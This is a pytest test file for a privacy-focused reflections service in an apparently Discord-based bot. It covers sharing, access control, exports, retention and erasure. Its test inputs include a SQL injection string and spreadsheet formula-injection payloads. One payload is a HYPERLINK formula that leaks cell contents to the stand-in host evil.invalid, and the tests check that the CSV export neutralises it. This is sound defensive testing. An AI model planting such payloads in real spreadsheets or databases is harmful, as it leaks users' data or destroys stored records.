"""Reflections through the service: a real SQLite file, the real content, a fake clock.

Private by default, shared only by their author, never someone else's by number,
stored exactly as written, exportable, erasable, and purged when retention says so.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from bot.config import Settings
from bot.console import Console
from bot.services.container import Services
from bot.services.content import ContentState
from bot.services.participation import participation_chart
from bot.services.permissions import Actor
from bot.services.reflection_text import EMPTY_TEXT, check_text
from bot.services.reflections import PAGE_SIZE, Forgotten, ReflectionService, Topic
from bot.services.sharing import SharedPost, ShareFailed, not_found
from bot.store import Reflection, Store, Visibility
from bot.user_error import UserError
from tests.e2e import CONTENT
from tests.fakes import FakeClock

GUILD, OTHER_GUILD = 4_000_000_000_000_001, 4_000_000_000_000_002
CHANNEL, THREAD = 5_000_000_000_000_001, 5_000_000_000_000_002
ALICE = Actor(user_id=101, guild_id=GUILD, display_name="Alice", channel_id=CHANNEL)
BOB = Actor(user_id=102, guild_id=GUILD, display_name="Bob", channel_id=CHANNEL)
OWNER = Actor(user_id=103, guild_id=GUILD, display_name="Fran", manages_server=True)
ALICE_ELSEWHERE = Actor(user_id=101, guild_id=OTHER_GUILD, display_name="Alice", channel_id=9)
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
ONLY_FACILITATORS_EXPORT = (
    "Only facilitators can export reflections: that needs the Manage Server permission."
)


# ---------------------------------------------------------------- fakes and fixtures


@dataclass
class FakeSharer:
    """An in-memory cohort channel: what is shown, and every call in order."""

    posts: dict[int, tuple[int, str, str]] = field(default_factory=dict)
    calls: list[tuple[str, int, int]] = field(default_factory=list)
    fail_with: Exception | None = None
    closed_to_author: set[int] = field(default_factory=set)
    markers: dict[int, int] = field(default_factory=dict)  # message id -> reflection id
    on_unshare: Callable[[int, int], Awaitable[None]] | None = None
    _next_id: int = 7_000

    async def author_may_post(self, channel_id: int) -> bool:
        return channel_id not in self.closed_to_author

    async def share(self, channel_id: int, post: SharedPost) -> int:
        if self.fail_with is not None:
            raise self.fail_with
        self._next_id += 1
        author = "Anonymous" if post.author_id is None else str(post.author_id)
        self.posts[self._next_id] = (channel_id, f"{author} on {post.topic_title}", post.text)
        self.markers[self._next_id] = post.reflection_id
        self.calls.append(("share", channel_id, self._next_id))
        return self._next_id

    async def find_share(self, channel_id: int, reflection_id: int, since: datetime) -> int | None:
        self.calls.append(("find", channel_id, reflection_id))
        found = [m for m, r in self.markers.items() if r == reflection_id and m in self.posts]
        return found[-1] if found else None

    async def unshare(self, channel_id: int, message_id: int) -> None:
        self.calls.append(("unshare", channel_id, message_id))
        if self.on_unshare is not None:
            await self.on_unshare(channel_id, message_id)
        self.posts.pop(message_id, None)  # a missing message is fine, as on Discord


@dataclass
class World:
    store: Store
    content: ContentState
    clock: FakeClock
    db: Path

    def service(self, **settings: Any) -> ReflectionService:
        values: dict[str, Any] = {"content_dir": CONTENT, "database": {"path": self.db}}
        values.update(settings)
        return ReflectionService(
            self.store, self.content, Settings.model_validate(values), self.clock
        )

    def rows(
        self, sql: str = "SELECT id, author_id, text FROM reflections ORDER BY id"
    ) -> list[Any]:
        """What is on disk, read by a second connection (so only committed data counts)."""
        with sqlite3.connect(self.db) as conn:
            return conn.execute(sql).fetchall()


def load_content() -> ContentState:
    state = ContentState(CONTENT)
    assert state.reload().applied
    return state


CONTENT_STATE = load_content()
_CONFRONTATION = CONTENT_STATE.library.get("confrontation")
assert _CONFRONTATION is not None
CARD = Topic("approach", "confrontation", _CONFRONTATION.title)
CARD_TITLE = f"Approach: {_CONFRONTATION.title}"  # as members see it in lists and exports


@pytest.fixture
def content() -> ContentState:
    return CONTENT_STATE


@pytest.fixture
async def world(tmp_path: Path, content: ContentState) -> AsyncIterator[World]:
    db = tmp_path / "reflections.sqlite3"
    async with Store.open(db) as store:
        yield World(store, content, FakeClock(), db)


@pytest.fixture
def service(world: World) -> ReflectionService:
    return world.service()


def prompt_topic(content: ContentState, index: int = 0) -> Topic:
    prompt = content.library.prompts[index]
    return Topic("prompt", prompt.id, prompt.title)


async def write(
    service: ReflectionService,
    actor: Actor = ALICE,
    text: str = "a thought",
    *,
    topic: Topic = CARD,
    visibility: Visibility = "private",
    sharer: FakeSharer | None = None,
) -> Reflection:
    return await service.save(actor, topic, text, visibility, sharer)


# ---------------------------------------------------------------- saving and reading


async def test_save_is_committed_private_and_readable(
    world: World, service: ReflectionService
) -> None:
    saved = await write(service, text="first thoughts")
    assert saved.visibility == "private"
    assert saved.shared_message_id is None
    assert saved.created_at == world.clock.now
    assert world.rows() == [(saved.id, ALICE.user_id, "first thoughts")], "on disk already"
    assert await service.get(ALICE, saved.id) == saved


async def test_mine_pages_newest_first(world: World, service: ReflectionService) -> None:
    ids = []
    for n in range(7):
        ids.append((await write(service, text=f"thought {n}")).id)
        world.clock.advance(minutes=1)
    await write(service, BOB, "not alice's")
    first = await service.mine(ALICE)
    assert first.total == 7
    assert [item.id for item in first.items] == ids[::-1][:PAGE_SIZE]
    second = await service.mine(ALICE, page=1)
    assert [item.text for item in second.items] == ["thought 1", "thought 0"]
    assert (await service.mine(ALICE, page=9)).items == ()
    assert (await service.mine(ALICE, page=-3)).items == first.items


async def test_edit_replaces_the_text_and_marks_it_edited(
    world: World, service: ReflectionService
) -> None:
    saved = await write(service, text="draft")
    world.clock.advance(hours=2)
    edited = await service.edit(ALICE, saved.id, "second draft")
    assert edited.text == "second draft"
    assert edited.edited_at == world.clock.now
    assert edited.visibility == "private"
    assert world.rows() == [(saved.id, ALICE.user_id, "second draft")]


async def test_delete_removes_it(world: World, service: ReflectionService) -> None:
    saved = await write(service)
    kept = await write(service, text="keep me")
    await service.delete(ALICE, saved.id, FakeSharer())
    assert world.rows() == [(kept.id, ALICE.user_id, "keep me")]
    with pytest.raises(UserError, match="was not found"):
        await service.delete(ALICE, saved.id, FakeSharer())


async def test_another_members_number_is_not_found_and_never_shown(
    world: World, service: ReflectionService
) -> None:
    bobs = await write(service, BOB, "bob's private words", visibility="private")
    sharer = FakeSharer()
    attempts: list[Callable[[], Awaitable[object]]] = [
        lambda: service.get(ALICE, bobs.id),
        lambda: service.edit(ALICE, bobs.id, "overwritten", sharer),
        lambda: service.delete(ALICE, bobs.id, sharer),
        lambda: service.set_visibility(ALICE, bobs.id, "cohort", sharer),
        lambda: service.get(ALICE_ELSEWHERE, bobs.id),
        lambda: service.get(ALICE, 999_999),
    ]
    for attempt in attempts:
        with pytest.raises(UserError) as refused:
            await attempt()
        assert "bob's private words" not in str(refused.value)
        assert "not found" in str(refused.value)
    assert str(refused.value) == not_found(999_999)
    assert world.rows() == [(bobs.id, BOB.user_id, "bob's private words")]
    assert (await service.get(BOB, bobs.id)).visibility == "private"
    assert sharer.calls == [], "nothing was posted or removed"
    mine = await service.mine(ALICE)
    assert mine.total == 0 and mine.items == ()


# ---------------------------------------------------------------- visibility and sharing


async def test_cohort_and_anonymous_sharing_and_unsharing(
    world: World, service: ReflectionService
) -> None:
    sharer = FakeSharer()
    saved = await write(service, text="shared words", visibility="cohort", sharer=sharer)
    assert saved.visibility == "cohort"
    assert saved.shared_channel_id == CHANNEL, "a card is shared where the member is"
    assert sharer.posts == {
        saved.shared_message_id: (CHANNEL, f"{ALICE.user_id} on {CARD_TITLE}", "shared words")
    }

    anonymous = await service.set_visibility(ALICE, saved.id, "anonymous", sharer)
    assert saved.shared_message_id not in sharer.posts, "the named copy is gone"
    [(_, title, text)] = sharer.posts.values()
    assert title == f"Anonymous on {CARD_TITLE}"
    assert str(ALICE.user_id) not in title and text == "shared words"
    assert anonymous.shared_message_id in sharer.posts

    private = await service.set_visibility(ALICE, saved.id, "private", sharer)
    assert private.visibility == "private" and private.shared_message_id is None
    assert sharer.posts == {}
    assert [call[0] for call in sharer.calls] == ["share", "unshare", "share", "unshare"]


async def test_a_prompt_is_shared_in_its_thread(
    world: World, service: ReflectionService, content: ContentState
) -> None:
    topic = prompt_topic(content, 2)
    cohort = await world.store.create_cohort(
        GUILD,
        name="Spring",
        channel_id=CHANNEL,
        post_time="09:00",
        timezone="UTC",
        now=world.clock(),
    )
    assert cohort is not None
    row = await world.store.reserve_post(
        cohort.id, 1, topic.card_id, None, "manual", now=world.clock()
    )
    assert row is not None
    await world.store.confirm_post(row, CHANNEL, 1234, THREAD)
    sharer = FakeSharer()
    saved = await write(
        service, BOB, "in the thread", topic=topic, visibility="cohort", sharer=sharer
    )
    assert saved.shared_channel_id == THREAD and saved.shared_message_id is not None
    assert sharer.posts[saved.shared_message_id] == (
        THREAD,
        f"{BOB.user_id} on Prompt: {topic.title}",
        "in the thread",
    )


async def test_anonymous_is_refused_when_facilitators_turned_it_off(world: World) -> None:
    service = world.service(reflections={"allow_anonymous": False})
    sharer = FakeSharer()
    with pytest.raises(UserError, match="turned anonymous sharing off"):
        await write(service, visibility="anonymous", sharer=sharer)
    assert world.rows() == [], "refused before anything was saved"
    saved = await write(service, sharer=sharer)
    with pytest.raises(UserError, match="turned anonymous sharing off"):
        await service.set_visibility(ALICE, saved.id, "anonymous", sharer)
    with pytest.raises(UserError, match="private, cohort or anonymous"):
        await service.set_visibility(ALICE, saved.id, "public", sharer)  # type: ignore[arg-type]
    assert sharer.calls == []
    assert (await service.get(ALICE, saved.id)).visibility == "private"


async def test_a_failed_share_keeps_it_saved_and_private(
    world: World, service: ReflectionService
) -> None:
    sharer = FakeSharer(fail_with=UserError("I could not post in that channel or thread."))
    with pytest.raises(ShareFailed) as failed:
        await write(service, text="still mine", visibility="cohort", sharer=sharer)
    [(reflection_id, _, text)] = world.rows()
    assert text == "still mine"
    assert str(failed.value) == (
        f"Reflection #{reflection_id} is saved but not shared: I could not post in that "
        "channel or thread. Only you and the facilitators can see it."
    )
    assert (await service.get(ALICE, reflection_id)).visibility == "private"

    # A shared one whose new copy fails: the old copy is gone, so the record says private.
    sharer.fail_with = None
    shared = await service.set_visibility(ALICE, reflection_id, "cohort", sharer)
    sharer.fail_with = RuntimeError("Discord is down")
    with pytest.raises(RuntimeError):
        await service.set_visibility(ALICE, reflection_id, "anonymous", sharer)
    assert shared.shared_message_id not in sharer.posts
    after = await service.get(ALICE, reflection_id)
    assert after.visibility == "private" and after.shared_message_id is None


async def test_sharing_without_a_channel_is_refused_but_saved(world: World) -> None:
    service = world.service()
    nowhere = Actor(user_id=104, guild_id=GUILD, display_name="Dee", channel_id=None)
    with pytest.raises(ShareFailed, match="Run this in the cohort's channel"):
        await write(service, nowhere, "words", visibility="cohort", sharer=FakeSharer())
    assert [row[2] for row in world.rows()] == ["words"]


async def test_editing_a_shared_reflection_reposts_it_once(
    world: World, service: ReflectionService
) -> None:
    sharer = FakeSharer()
    saved = await write(service, text="old words", visibility="cohort", sharer=sharer)
    old_message = saved.shared_message_id
    assert old_message is not None
    sharer.calls.clear()
    edited = await service.edit(ALICE, saved.id, "new words", sharer)
    assert sharer.calls == [
        ("unshare", CHANNEL, old_message),
        ("share", CHANNEL, edited.shared_message_id),
    ], "the old copy is removed exactly once"
    assert list(sharer.posts.values()) == [
        (CHANNEL, f"{ALICE.user_id} on {CARD_TITLE}", "new words")
    ]
    assert edited.visibility == "cohort" and edited.text == "new words"


async def test_an_anonymous_reflection_stays_anonymous_when_edited_after_the_switch_off(
    world: World,
) -> None:
    sharer = FakeSharer()
    saved = await write(world.service(), visibility="anonymous", sharer=sharer)
    strict = world.service(reflections={"allow_anonymous": False})
    edited = await strict.edit(ALICE, saved.id, "edited, still anonymous", sharer)
    assert edited.visibility == "anonymous"
    [(_, title, text)] = sharer.posts.values()
    assert title.startswith("Anonymous on") and text == "edited, still anonymous"


async def test_without_discord_shared_copies_are_never_orphaned(
    world: World, service: ReflectionService
) -> None:
    private = await write(service)
    with pytest.raises(UserError, match="Sharing needs Discord"):
        await service.set_visibility(ALICE, private.id, "cohort", None)
    shared = await write(service, visibility="cohort", sharer=FakeSharer())
    attempts: list[Callable[[], Awaitable[object]]] = [
        lambda: service.set_visibility(ALICE, shared.id, "private", None),
        lambda: service.delete(ALICE, shared.id, None),
        lambda: service.edit(ALICE, shared.id, "changed", None),
        lambda: service.forget_me(ALICE, None),
    ]
    for attempt in attempts:
        with pytest.raises(UserError, match="shared on Discord"):
            await attempt()
    assert await service.get(ALICE, shared.id) == shared
    await service.delete(ALICE, private.id, None)  # a private one needs no Discord


# ---------------------------------------------------------------- bad input


TOO_LONG = (
    "That reflection is 4001 characters; the limit is 4000. "
    "Nothing was saved: shorten it and try again."
)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", EMPTY_TEXT),
        ("   \n\t  \r\n", EMPTY_TEXT),
        ("\u200b\u200f\u200e\u3164", EMPTY_TEXT),
        ("x" * 4001, TOO_LONG),
        (
            "I rang the bell\u0007 twice",
            "The text holds an invisible control character (U+0007); remove it and try again. "
            "Nothing was saved.",
        ),
        (
            "nul\u0000byte",
            "The text holds an invisible control character (U+0000); remove it and try again. "
            "Nothing was saved.",
        ),
        (
            "half an emoji \ud83d",
            "The text holds a broken character (U+D83D); remove it and try again. "
            "Nothing was saved.",
        ),
    ],
    ids=["empty", "whitespace", "invisible", "too-long", "bell", "nul", "surrogate"],
)
async def test_bad_text_is_refused_with_a_clear_message(
    world: World, service: ReflectionService, text: str, message: str
) -> None:
    with pytest.raises(UserError) as refused:
        check_text(text)
    assert str(refused.value) == message
    with pytest.raises(UserError) as refused:
        await write(service, text=text)
    assert str(refused.value) == message
    kept = await write(service, text="fine")
    with pytest.raises(UserError) as refused:
        await service.edit(ALICE, kept.id, text)
    assert str(refused.value) == message
    assert world.rows() == [(kept.id, ALICE.user_id, "fine")]


STORED_EXACTLY = [
    "@everyone @here <@102> <@&555> <#5> look at this",
    "Robert'); DROP TABLE reflections;-- \" OR 1=1; % _ \\ ?",
    "\u202eRTL override\u202c and \u200fمرحبا\u200f with a mark",
    "Emoji 👩🏽‍⚕️🧠 and accents: café, naïve; **markdown** `code` ||spoiler||",
    "line one\r\nline two\n\ttabbed",
    "x" * 4000,
]


@pytest.mark.parametrize("text", STORED_EXACTLY, ids=range(len(STORED_EXACTLY)))
async def test_awkward_text_is_stored_exactly(
    world: World, service: ReflectionService, text: str
) -> None:
    assert check_text(text) == text
    sharer = FakeSharer()
    saved = await write(service, text=text, visibility="cohort", sharer=sharer)
    assert (await service.get(ALICE, saved.id)).text == text
    assert world.rows("SELECT text FROM reflections") == [(text,)]
    assert [post[2] for post in sharer.posts.values()] == [text]
    assert world.rows("SELECT count(*) FROM sqlite_master WHERE name = 'reflections'") == [(1,)]


# ---------------------------------------------------------------- exports and summary


async def test_export_mine_is_markdown_of_only_my_reflections(
    world: World, service: ReflectionService, content: ContentState
) -> None:
    empty = await service.export_mine(ALICE)
    assert empty == "# My reflections (Alice)\n\nYou have not written any reflections here yet."
    first = await write(service, text="about confrontation")
    world.clock.advance(days=1)
    topic = prompt_topic(content)
    second = await write(service, text="about the prompt\nwith two lines", topic=topic)
    await write(service, BOB, "bob's words")
    exported = await service.export_mine(ALICE)
    assert exported.startswith("# My reflections (Alice)\n")
    assert "bob's words" not in exported
    sections = exported.split("\n## ")[1:]
    assert [section.splitlines()[0] for section in sections] == [
        f"Prompt: {topic.title}",
        CARD_TITLE,
    ], "newest first"
    assert f"*2026-03-03 07:00 UTC · #{second.id} · private*" in sections[0]
    assert "about the prompt\nwith two lines" in sections[0]
    assert f"#{first.id}" in sections[1] and "about confrontation" in sections[1]


def parse(csv_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_text)))


async def test_export_csv_for_facilitators_hides_anonymous_authors(
    world: World, service: ReflectionService
) -> None:
    sharer = FakeSharer()
    tricky = 'commas, "quotes",\nnew lines and =SUM(A1)'
    private = await write(service, text=tricky)
    world.clock.advance(days=2)
    anonymous = await write(service, BOB, "no name", visibility="anonymous", sharer=sharer)
    world.clock.advance(hours=1)
    await service.edit(BOB, anonymous.id, "no name, edited", sharer)

    exported = await service.export_csv(OWNER)
    assert exported.splitlines()[0] == (
        "id,date,about,author_id,author_name,visibility,edited,text,cohort"
    )
    rows = parse(exported)
    assert rows == [
        {
            "id": str(private.id),
            "date": "2026-03-02T07:00:00+00:00",
            "about": CARD_TITLE,
            "author_id": str(ALICE.user_id),
            "author_name": "",
            "visibility": "private",
            "edited": "",
            "text": tricky,
            "cohort": "",
        },
        {
            "id": str(anonymous.id),
            "date": "2026-03-04T07:00:00+00:00",
            "about": CARD_TITLE,
            "author_id": "anonymous",
            "author_name": "anonymous",
            "visibility": "anonymous",
            "edited": "2026-03-04T08:00:00+00:00",
            "text": "no name, edited",
            "cohort": "",
        },
    ]
    assert str(BOB.user_id) not in exported

    since = await service.export_csv(OWNER, datetime(2026, 3, 3, tzinfo=UTC))
    assert [row["id"] for row in parse(since)] == [str(anonymous.id)]

    open_book = world.service(reflections={"facilitators_see_anonymous_authors": True})
    assert parse(await open_book.export_csv(OWNER))[1]["author_id"] == str(BOB.user_id)


async def test_exports_and_summary_are_for_facilitators_only(world: World) -> None:
    service = world.service()
    await write(service, text="secret")
    with pytest.raises(UserError) as refused:
        await service.export_csv(ALICE)
    assert str(refused.value) == ONLY_FACILITATORS_EXPORT
    with pytest.raises(UserError, match="Only facilitators can see the reflection summary"):
        await service.summary(ALICE)

    by_role = world.service(facilitator_role="Facilitator")
    await by_role.store.set_facilitator_role(GUILD, 77, now=world.clock())
    with pytest.raises(UserError) as refused:
        await by_role.export_csv(ALICE)
    assert str(refused.value) == (
        "Only facilitators can export reflections: that needs the Manage Server permission "
        "or this server's facilitator role."
    )
    named = Actor(
        user_id=106, guild_id=GUILD, role_ids=frozenset({78}), role_names=("facilitator",)
    )
    with pytest.raises(UserError):
        await by_role.export_csv(named)
    facilitator = Actor(user_id=105, guild_id=GUILD, role_ids=frozenset({77}))
    assert [row["text"] for row in parse(await by_role.export_csv(facilitator))] == ["secret"]


async def test_summary_counts_without_text_and_draws_a_png(
    world: World, service: ReflectionService, content: ContentState
) -> None:
    topic = prompt_topic(content)
    await write(service, ALICE, "private words one", topic=topic)
    await write(service, ALICE, "private words two", topic=topic)
    await write(service, BOB, "private words three", topic=topic)
    world.clock.advance(days=1)
    await write(service, BOB, "private words four")
    await write(service, ALICE, "private words five", topic=topic)
    await write(service, ALICE_ELSEWHERE, "elsewhere")  # another server: not counted
    summary = await service.summary(OWNER)
    assert summary.lines == (
        "5 reflections from 2 members.",
        f"Prompt: {topic.title}: 2 members, 4 reflections",
        f"{CARD_TITLE}: 1 member, 1 reflection",
    )
    assert "private words" not in "\n".join(summary.lines)
    assert_png(summary.chart_png)


def assert_png(data: bytes, size: tuple[int, int] = (800, 350)) -> None:
    """A real PNG: the signature, and an image that decodes to the chart's size."""
    assert data.startswith(PNG_MAGIC)
    from PIL import Image

    with Image.open(io.BytesIO(data)) as image:
        image.load()
        assert image.format == "PNG"
        assert image.size == size


def test_an_empty_chart_is_still_an_image() -> None:
    assert_png(participation_chart([]))
    assert_png(participation_chart([(f"2026-01-{d:02d}", d % 4) for d in range(1, 32)] * 3))


# ---------------------------------------------------------------- retention and erasure


async def test_retention_deletes_old_reflections_once_a_day(world: World) -> None:
    never = world.service()
    old = await write(never, text="old")
    world.clock.advance(days=40)
    assert await never.purge_expired() == 0, "retention is off by default"
    service = world.service(reflections={"retention_days": 30})
    recent = await write(service, text="recent")
    assert await service.purge_expired() == 1
    assert [row[2] for row in world.rows()] == ["recent"]
    with pytest.raises(UserError, match="not found"):
        await service.get(ALICE, old.id)

    world.clock.advance(hours=5)  # same day: the job does not run again
    assert await service.purge_expired() == 0
    world.clock.advance(days=30)
    assert await service.purge_expired() == 1
    assert world.rows() == []
    assert recent.id > old.id


async def test_retention_retries_after_a_failure(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    service = world.service(reflections={"retention_days": 1})
    await write(service)
    world.clock.advance(days=2)
    real = world.store.delete_older_than

    async def broken(cutoff: datetime) -> int:
        raise RuntimeError("disk full")

    monkeypatch.setattr(world.store, "delete_older_than", broken)
    with pytest.raises(RuntimeError):
        await service.purge_expired()
    monkeypatch.setattr(world.store, "delete_older_than", real)
    assert await service.purge_expired() == 1, "a failed run is not counted as today's"


async def test_forget_me_erases_everything_and_takes_shared_copies_down(
    world: World, service: ReflectionService
) -> None:
    sharer = FakeSharer()
    await write(service, text="private")
    named = await write(service, text="named", visibility="cohort", sharer=sharer)
    hidden = await write(service, text="hidden", visibility="anonymous", sharer=sharer)
    bobs = await write(service, BOB, "bob stays", visibility="cohort", sharer=sharer)
    elsewhere = await write(service, ALICE_ELSEWHERE, "other server")
    cohort = await world.store.create_cohort(
        GUILD,
        name="Spring",
        channel_id=CHANNEL,
        post_time="09:00",
        timezone="Europe/Berlin",
        created_by=ALICE.user_id,
        now=world.clock(),
    )
    assert cohort is not None

    async def still_on_record(channel_id: int, message_id: int) -> None:
        on_disk = world.rows("SELECT shared_message_id FROM reflections")
        assert (message_id,) in on_disk, "copies go before the records that point at them"

    sharer.on_unshare = still_on_record
    assert (await service.forget_me(ALICE, sharer)).erased == 3
    removed = {call[2] for call in sharer.calls if call[0] == "unshare"}
    assert removed == {named.shared_message_id, hidden.shared_message_id}
    assert list(sharer.posts) == [bobs.shared_message_id]
    assert [row[2] for row in world.rows()] == ["bob stays", "other server"]
    assert (await service.mine(ALICE)).total == 0
    assert (await service.get(ALICE_ELSEWHERE, elsewhere.id)).text == "other server"
    after = await world.store.get_cohort(cohort.id)
    assert after is not None and after.created_by is None
    assert await service.forget_me(ALICE, sharer) == Forgotten(0)


async def test_forget_me_keeps_the_records_if_discord_fails(
    world: World, service: ReflectionService
) -> None:
    sharer = FakeSharer()
    await write(service, text="shared", visibility="cohort", sharer=sharer)

    async def down(channel_id: int, message_id: int) -> None:
        raise RuntimeError("Discord is down")

    sharer.on_unshare = down
    with pytest.raises(RuntimeError):
        await service.forget_me(ALICE, sharer)
    assert len(world.rows()) == 1, "nothing is lost track of; trying again finishes it"
    sharer.on_unshare = None
    assert await service.forget_me(ALICE, sharer) == Forgotten(1)
    assert world.rows() == [] and sharer.posts == {}


# ---------------------------------------------------------------- topics and the console


async def test_topic_defaults_to_the_latest_posted_prompt(
    world: World, service: ReflectionService, content: ContentState
) -> None:
    first, second, third = content.library.prompts[:3]
    assert (await service.topic(GUILD, None)).card_id == first.id, "nothing posted yet"
    now = world.clock()
    cohort = await world.store.create_cohort(
        GUILD, name="Spring", channel_id=CHANNEL, post_time="09:00", timezone="UTC", now=now
    )
    assert cohort is not None
    await world.store.record_post(
        cohort.id, 1, second.id, "posted", now=now, local_date=date(2026, 3, 1)
    )
    await world.store.record_post(
        cohort.id, 1, third.id, "skipped", now=now, local_date=date(2026, 3, 2)
    )
    assert await service.topic(GUILD, "  ") == Topic("prompt", second.id, second.title)
    assert await service.topic(GUILD, "confrontation") == CARD
    assert (await service.topic(GUILD, "Confrontation")).card_id == "confrontation"
    myth = await service.topic(GUILD, "cannot-change")
    assert myth.kind == "myth"
    with pytest.raises(UserError, match="No prompt or card is called “confrontashun”") as refused:
        await service.topic(GUILD, "confrontashun")
    assert "Did you mean Confrontation" in str(refused.value)


async def test_console_reflect_and_mine(tmp_path: Path) -> None:
    settings = Settings.model_validate(
        {"content_dir": CONTENT, "database": {"path": tmp_path / "console.sqlite3"}}
    )
    services = await Services.open(settings, FakeClock())
    try:
        console = Console(services)
        opened = await console.execute("/reflect confrontation")
        assert opened.startswith(f"Reflecting on {CARD.title}.")
        assert await console.execute("It made me think <@123> @everyone") == ""
        assert await console.execute("about accountability.") == ""
        saved = await console.execute("")
        assert saved == "Saved reflection #1. Only you and the facilitators can see it."
        await console.execute("/reflect confrontation")
        refused = await console.execute("   ")
        assert refused == EMPTY_TEXT
        mine = await console.execute("/reflections mine")
        assert "It made me think <@123> @everyone\nabout accountability." in mine
        assert "Page 1 of 1 (1 in all)" in mine
    finally:
        await services.close()


async def test_retention_takes_shared_copies_down_first(world: World) -> None:
    service = world.service(reflections={"retention_days": 30})
    sharer = FakeSharer()
    shared = await write(service, text="shared once", visibility="cohort", sharer=sharer)
    assert shared.shared_message_id in sharer.posts
    world.clock.advance(days=31)
    assert await service.purge_expired(sharer) == 1
    assert sharer.posts == {}, "no named post outlives its record"
    assert ("unshare", shared.shared_channel_id, shared.shared_message_id) in sharer.calls


FORMULAS = [
    '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")',
    "+1 agree",
    "-2+3",
    "- a bullet point",
    "@SUM(A1:A9)",
    "\tindented",
    "\r\nafter a line break",
    "＝1+1",
]


async def test_csv_export_never_holds_a_live_formula_and_markdown_stays_exact(
    world: World, service: ReflectionService
) -> None:
    for text in [*FORMULAS, "plain words"]:
        await write(service, text=text)
    exported = await service.export_csv(OWNER)
    cells = [row["text"] for row in csv.DictReader(io.StringIO(exported))]
    assert cells == [f"'{text}" for text in FORMULAS] + ["plain words"]
    assert all(row["about"][0] not in "=+-@" for row in csv.DictReader(io.StringIO(exported)))
    markdown = await service.export_mine(ALICE)
    for text in FORMULAS:
        assert f"\n{text}\n" in markdown, "the member's own export is exactly as written"
    assert "'=" not in markdown and "'+" not in markdown


async def test_a_face_with_a_smaller_text_box_sets_the_limit(service: ReflectionService) -> None:
    """Slack's text input holds 3,000 characters: the service refuses more, and says so."""
    with pytest.raises(UserError, match="That reflection is 3001 characters; the limit is 3000"):
        await service.save(ALICE, CARD, "x" * 3001, max_length=3000)
    saved = await service.save(ALICE, CARD, "x" * 3000, max_length=3000)
    with pytest.raises(UserError, match="the limit is 3000"):
        await service.edit(ALICE, saved.id, "y" * 3001, max_length=3000)
    assert (await service.get(ALICE, saved.id)).text == "x" * 3000
